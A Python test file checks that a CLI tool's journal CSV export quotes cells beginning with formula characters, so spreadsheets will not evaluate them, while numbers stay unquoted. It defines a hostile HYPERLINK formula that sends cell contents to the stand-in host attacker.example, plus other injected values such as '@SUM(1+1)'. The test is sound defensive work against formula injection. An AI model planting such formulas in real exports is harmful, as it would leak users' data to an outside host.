"""`reman journal export` writes CSV that a spreadsheet opens without running anything in it."""

from __future__ import annotations

import csv

from click.testing import CliRunner

from edge.contract import Disposition, Impact
from edge.journal.journal import Journal
from reman.cli import cli
from tests.support.journal_records import make_record, messages_for

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click for details")'


def test_text_cells_that_a_spreadsheet_would_run_are_quoted_numbers_stay_numbers(tmp_path):
    path = tmp_path / "journal.db"
    record = make_record(
        1,
        family="@SUM(1+1)",
        part_number="-2+3",
        impact=Impact(known=True, material_kept_kg=0.0, co2e_avoided_kg=-1.25),
    )
    with Journal.open(path) as journal:
        journal.record_inspection(record, messages_for(record))
        journal.apply_override(record.id, int(Disposition.RECYCLE), HYPERLINK, "-eve")
        plain = make_record(2, core_id="HGP-0002")
        journal.record_inspection(plain, messages_for(plain))
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(
        cli, ["journal", "export", "--journal", str(path), "--csv", str(out)]
    )
    assert result.exit_code == 0, result.output
    first, second = csv.DictReader(open(out, encoding="utf-8", newline=""))
    assert first["override_reason"] == "'" + HYPERLINK
    assert (first["override_user"], first["family"], first["part_number"]) == (
        "'-eve",
        "'@SUM(1+1)",
        "'-2+3",
    )
    assert first["co2e_avoided_kg"] == "-1.25" and first["seq"] == "1"  # a number, unquoted
    assert (second["family"], second["override_reason"]) == ("hydraulic-gear-pump", "")
